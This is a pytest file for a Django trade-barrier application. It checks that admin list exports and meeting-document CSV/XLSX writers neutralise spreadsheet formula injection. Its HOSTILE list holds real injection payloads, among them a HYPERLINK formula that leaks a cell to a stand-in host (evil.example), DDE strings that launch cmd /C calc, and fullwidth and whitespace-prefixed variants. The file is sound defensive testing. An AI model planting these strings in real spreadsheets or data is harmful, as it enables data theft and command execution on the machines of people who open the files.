"""No spreadsheet the product writes holds a live formula, whatever exporters typed.

The same hostile strings go through every spreadsheet writer: each list export the admin offers
(every django-import-export resource, in every format, found through the admin rather than
listed here) and each CSV or XLSX renderer of the meeting documents. The output is opened with
openpyxl or the csv module: no cell is a formula and no text cell starts, even after leading
whitespace, with a character a spreadsheet would read as the start of one.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import fields, is_dataclass, replace
from decimal import Decimal
from itertools import cycle
from typing import Any

import openpyxl
import pytest
from django.contrib import admin
from django.test import Client, RequestFactory
from django.urls import reverse

from barriers import services
from barriers.admin.resources import SpreadsheetSafeExport
from barriers.exports import RENDERERS
from barriers.models import Barrier, Report, TriageQueueEntry, User
from barriers.platform.formulas import spreadsheet_safe
from devtools.exports import sample
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1+cmd|' /C calc'!A0",
    "－1+cmd|' /C calc'!A0",
    "＠SUM(A1:A9)",
    "   =1+1",
    " \t@SUM(A1:A9)",
    '\u00a0=HYPERLINK("http://evil.example")',
]
# What a spreadsheet may take for the start of a formula (independent of barriers.platform.formulas).
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")

PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml")


def _assert_inert(values: list[Any], what: str) -> None:
    for value in values:
        if not isinstance(value, str) or not value or PLAIN_NUMBER.fullmatch(value):
            continue  # a number written out in a CSV (-250000.00) runs nothing
        assert not value.startswith(DANGEROUS), (what, value)
        assert not value.lstrip().startswith(DANGEROUS), (what, value)


def _csv_values(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [value for row in rows for value in row]


def _xlsx_values(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _values(content: bytes, media_type: str) -> list[Any]:
    if media_type.startswith("text/csv"):
        return _csv_values(content)
    return _xlsx_values(content)


def test_the_neutraliser_covers_every_start_and_leaves_numbers_alone() -> None:
    for text in HOSTILE:
        assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("Plain title") == "Plain title"
    assert spreadsheet_safe("Grapes - held at the border") == "Grapes - held at the border"
    assert spreadsheet_safe(-250000) == -250000
    assert spreadsheet_safe(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet_safe(None) is None


# ---------------------------------------------------------------------------------------------
# The admin's list exports, found through the admin
# ---------------------------------------------------------------------------------------------


def _exporting_admins() -> list[tuple[type, Any]]:
    return [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "get_export_formats")
    ]


def _admin_exports() -> list[Any]:
    request = RequestFactory().get("/")
    request.user = User(is_superuser=True, is_staff=True, is_active=True)
    cases = []
    for model, model_admin in _exporting_admins():
        resources = model_admin.get_export_resource_classes(request)
        for r_index, resource in enumerate(resources):
            for f_index, fmt in enumerate(model_admin.get_export_formats()):
                cases.append(
                    pytest.param(
                        model,
                        r_index,
                        f_index,
                        fmt().get_content_type(),
                        id=f"{model._meta.model_name}-{resource.__name__}-{fmt().get_title()}",
                    )
                )
    return cases


def _hostile_reports(official: User, *, accept: bool = True) -> list[str]:
    """Reports (and, once accepted, their barriers) titled with every hostile string."""
    company = factories.CompanyFactory(name=HOSTILE[0])
    for text in HOSTILE:
        report = factories.report_file(
            company=company, title=text, application_number=text[:30], trade_value_usd=Decimal("1")
        )
        if accept:
            services.report_start_review(report=report, actor=official)
            services.report_accept(report=report, actor=official)
    return list(Report.objects.values_list("title", flat=True))


HOSTILE_DATA = {
    Report: _hostile_reports,
    Barrier: _hostile_reports,
    # The triage queue lists reports still waiting for a decision.
    TriageQueueEntry: lambda official: _hostile_reports(official, accept=False),
}


def test_every_model_the_admin_exports_has_hostile_data_here() -> None:
    exported = {model for model, _admin in _exporting_admins()}
    assert {Report, Barrier} <= exported
    assert exported <= set(HOSTILE_DATA), "add hostile data for the new export below"
    request = RequestFactory().get("/")
    request.user = User(is_superuser=True, is_staff=True, is_active=True)
    for _model, model_admin in _exporting_admins():
        for resource in model_admin.get_export_resource_classes(request):
            assert issubclass(resource, SpreadsheetSafeExport), resource


@pytest.mark.parametrize(("model", "resource", "file_format", "media_type"), _admin_exports())
def test_admin_list_exports_hold_no_formula(
    admin_user: User, model: type, resource: int, file_format: int, media_type: str
) -> None:
    titles = HOSTILE_DATA[model](admin_user)
    client = Client()
    client.force_login(admin_user)
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    ticked = {
        name: "on"
        for name, field in form.fields.items()
        if getattr(field, "is_selectable_field", False)
    }

    response = client.post(url, {**ticked, "format": str(file_format), "resource": str(resource)})

    assert response.status_code == 200, response.content[:500]
    values = _values(response.content, media_type)
    _assert_inert(values, url)
    assert titles and all("'" + title in values for title in titles), "titles not exported"


# ---------------------------------------------------------------------------------------------
# Meeting documents (agenda and outcomes) in every spreadsheet format
# ---------------------------------------------------------------------------------------------

FREE_TEXT = {
    "title",
    "title_ru",
    "kind",
    "kind_ru",
    "ask",
    "reason",
    "statement_india",
    "statement_eaeu",
    "counterpart_commitment",
    "description",
    "owner_name",
    "owner_agency",
    "named",
}


def _poisoned(value: Any, texts: Any) -> Any:
    """`value` with every free-text field replaced by the next hostile string."""
    if isinstance(value, tuple):
        return tuple(_poisoned(item, texts) for item in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    changes = {}
    for field in fields(value):
        current = getattr(value, field.name)
        if field.name in FREE_TEXT and isinstance(current, str):
            changes[field.name] = next(texts)
        elif field.name == "named" and isinstance(current, tuple):
            changes[field.name] = tuple(next(texts) for _ in current)
        elif field.name == "trade_value_usd":
            changes[field.name] = Decimal("-250000.00")  # a real number stays a number
        elif isinstance(current, tuple) or is_dataclass(current):
            changes[field.name] = _poisoned(current, texts)
    return replace(value, **changes)


SPREADSHEET_RENDERERS = [
    pytest.param(name, id=name)
    for name, renderer in RENDERERS.items()
    if renderer.media_type.startswith(SPREADSHEET_TYPES)
]


def test_the_meeting_documents_have_spreadsheet_writers() -> None:
    assert {"csv", "xlsx"} <= {param.values[0] for param in SPREADSHEET_RENDERERS}


@pytest.mark.parametrize("document", ["agenda", "outcomes"])
@pytest.mark.parametrize("renderer", SPREADSHEET_RENDERERS)
def test_meeting_documents_hold_no_formula(renderer: str, document: str) -> None:
    data = sample.sample_agenda(8, reserve=3) if document == "agenda" else sample.sample_outcomes(8)
    data = _poisoned(data, cycle(HOSTILE))
    writer = RENDERERS[renderer]

    values = _values(writer.render(data), writer.media_type)

    _assert_inert(values, renderer)
    titles = [entry.title for entry in (data.agenda if document == "agenda" else data.items)]
    assert all("'" + title in values for title in titles)
    if renderer == "xlsx" and document == "agenda":
        assert Decimal("-250000") in [Decimal(str(v)) for v in values if isinstance(v, int | float)]
